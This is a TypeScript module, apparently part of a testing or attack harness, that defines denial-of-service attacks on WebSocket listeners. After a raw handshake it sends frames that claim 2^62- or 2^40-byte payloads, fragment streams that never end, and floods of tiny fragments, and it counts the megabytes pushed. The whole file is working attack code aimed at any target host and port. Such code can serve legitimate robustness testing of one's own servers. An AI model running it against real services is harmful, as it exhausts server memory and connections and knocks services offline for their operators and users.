/** Attacks on WebSocket listeners: frames that claim much, and messages that never end. */
import { randomBytes } from 'node:crypto';
import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type Attacks, repeat, type Target } from './attack.ts';

const upgrade = async ({ host, port }: Target): Promise<Socket> => {
  const socket = connect({ host, port });
  socket.on('error', () => {});
  await once(socket, 'connect', { signal: AbortSignal.timeout(10_000) });
  socket.write(
    `GET / HTTP/1.1\r\nHost: ${host}:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
      `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
  );
  await once(socket, 'data', { signal: AbortSignal.timeout(10_000) });
  socket.resume();
  return socket;
};

const MASK = Buffer.from([1, 2, 3, 4]);

/** The header of a binary frame, masked. RFC 6455 section 5.2. */
const header = (fin: boolean, opcode: number, length: bigint): Buffer => {
  const bytes = Buffer.alloc(10);
  bytes[0] = (fin ? 0x80 : 0) | opcode;
  bytes[1] = 0x80 | 127;
  bytes.writeBigUInt64BE(length, 2);
  return Buffer.concat([bytes, MASK]);
};

const MIB = 1 << 20;

export const websocketAttacks: Attacks = {
  'ws-frames': async (target) => {
    await repeat(target, 'connections', 4, async (n) => {
      const socket = await upgrade(target);
      const closed = once(socket, 'close');
      const kind = n % 4;
      // One frame of 2^62 bytes; one of 2^40; fragments without an end; a thousand of 1 byte each.
      if (kind === 0) socket.write(header(true, 2, 2n ** 62n));
      if (kind === 1) socket.write(header(true, 2, 2n ** 40n));
      for (let more = 0; more < 32 && !socket.destroyed; more++) {
        if (kind === 2) socket.write(header(false, more === 0 ? 2 : 0, BigInt(MIB)));
        if (kind === 3) {
          const small = Buffer.concat([header(false, 0, 1n), Buffer.alloc(1)]);
          socket.write(Buffer.concat(Array.from({ length: 1_000 }, () => small)));
        } else if (!socket.write(Buffer.alloc(MIB))) {
          await Promise.race([once(socket, 'drain'), closed, delay(1_000)]);
        }
        target.count('MiB');
      }
      socket.destroy();
    });
  },
};
